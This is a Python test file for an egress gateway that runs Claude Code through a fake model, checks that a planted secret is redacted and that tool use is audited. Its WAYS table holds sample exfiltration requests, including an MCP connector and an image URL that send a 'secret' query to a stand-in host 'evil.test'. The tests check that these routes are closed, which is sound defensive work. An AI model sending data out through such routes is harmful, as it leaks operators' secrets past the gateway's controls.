"""The real Claude Code works through the parsed model route, and five ways to leave by it do not."""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from tests.support.fake_model import FakeModel
from tests.support.ports import Bench, bench
from tests.support.wire import parsed, request, served, talk

from wicketgate.egress.model import ModelApi
from wicketgate.policy import Model
from wicketgate.secrets.credential import Credential

SECRET = "hunter2-hunter2"
FOUND = next((p for p in map(Path, sys.path) if (p / "claude_agent_sdk/_bundled/claude").exists()), None)
CLAUDE = FOUND / "claude_agent_sdk/_bundled/claude" if FOUND else None
KEY = Credential("ANTHROPIC_API_KEY", "sk-ant-operator")
needs_claude = pytest.mark.skipif(CLAUDE is None, reason="Claude Code is not installed (extra `claude`)")


def clean(text: str) -> str:
    """Return `text` without the secret."""
    return text.replace(SECRET, "[redacted:S]")


def claude(upstream: FakeModel, folder: Path, *arguments: str, **model: Any) -> tuple[int, dict[str, Any], Bench]:
    """Return exit code, final answer and record of a Claude Code run through a model route."""

    async def run() -> tuple[int, dict[str, Any], Bench]:
        made = bench({"files": {"read": ["**"]}}, clean)
        api = ModelApi(made.door, Model(url=upstream.url, **model), KEY, clean)
        async with served(api.serve) as port:
            env = {**upstream.env(folder / "home"), "ANTHROPIC_BASE_URL": f"http://127.0.0.1:{port}"}
            process = await asyncio.create_subprocess_exec(
                *(str(CLAUDE), "-p", "go", "--output-format", "json", *arguments),
                cwd=folder,
                env={"PATH": os.environ["PATH"], **env},
                stdin=asyncio.subprocess.DEVNULL,
                stdout=asyncio.subprocess.PIPE,
                stderr=asyncio.subprocess.PIPE,
            )
            out, _ = await asyncio.wait_for(process.communicate(), 120)
            return process.returncode or 0, json.loads(out), made

    return asyncio.run(run())


@needs_claude
def test_a_session_with_tools_and_a_subagent_works_and_is_recorded(tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "note.txt").write_text(f"the key is {SECRET}\n")
    (tmp_path / "dot.png").write_bytes(PNG)
    child = {"description": "look", "prompt": "CHILD: say hello", "subagent_type": "general-purpose"}
    script = [
        {"when": "CHILD: say hello", "text": "hello from the child"},
        {"text": "reading", "tools": [["Read", {"file_path": str(tmp_path / "note.txt")}]]},
        {"tools": [["Read", {"file_path": str(tmp_path / "dot.png")}], ["Bash", {"command": "ls"}]]},
        {"tools": [["Agent", {**child, "run_in_background": False}]]},
        "all done",
    ]
    script = [script[1], script[2], script[3], script[0], script[4]]
    with FakeModel(script) as upstream:
        code, answer, made = claude(upstream, tmp_path)
        assert (code, answer["result"], upstream.unused) == (0, "all done", 0)
        names = [entry["name"] for entry in made.audit.of("model.tool_use")]
        assert names == ["Read", "Read", "Bash", "Agent"]
        assert len(made.audit.of("model.tool_result")) == 4
        assert any(entry["agent"] for entry in made.audit.of("model.request"))
        assert upstream.seen("[redacted:S]") and not upstream.seen(SECRET)
        assert any(block["type"] == "image" for block in images(upstream))
        assert {headers["x-api-key"] for headers in upstream.headers} == {"sk-ant-operator"}
        assert made.audit.of("model.refused") == []


@needs_claude
def test_a_budget_that_is_used_up_ends_the_session_with_its_reason(tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    with FakeModel([{"tools": [["Bash", {"command": "ls"}]]}] * 9) as upstream:
        code, answer, _ = claude(upstream, tmp_path, tokens=30_000, max_tokens=4_000)
        assert code != 0 and answer["is_error"]
        assert "used up" in answer["result"] and "wicketgate.yaml:" in answer["result"]
        assert len(upstream.requests) < 5


WAYS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "files with a key of its own": ("POST", "/v1/files", {}),
    "batches": ("POST", "/v1/messages/batches", {"requests": []}),
    "an mcp connector": ("POST", "/v1/messages", {"mcp_servers": [{"type": "url", "url": "https://evil.test"}]}),
    "web fetch": ("POST", "/v1/messages", {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    "an image by url": ("POST", "/v1/messages", {"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://evil.test/?d=secret"}}]}]}),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_a_way_to_leave_over_the_model_route_is_closed(way: str) -> None:
    method, path, body = WAYS[way]
    whole = {"model": "claude-x", "max_tokens": 10, "messages": [{"role": "user", "content": "x"}], **body}
    raw = request(method, path, json.dumps(whole).encode(), x_api_key="sk-ant-attacker")

    async def run(upstream: FakeModel) -> bytes:
        made = bench({"files": {"read": ["**"]}})
        api = ModelApi(made.door, Model(url=upstream.url), KEY, str)
        async with served(api.serve) as port:
            return await talk(port, raw)

    with FakeModel(["x"]) as upstream:
        assert parsed(asyncio.run(run(upstream)))[0] in (400, 404)
        assert (upstream.requests, upstream.other) == ([], [])


def images(upstream: FakeModel) -> list[dict[str, Any]]:
    """Return the blocks of every tool result the model was shown."""
    results = [block["content"] for block in upstream.tool_results()]
    return [block for content in results if isinstance(content, list) for block in content]


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc0000003010100c9fe92ef"
    "0000000049454e44ae426082"
)
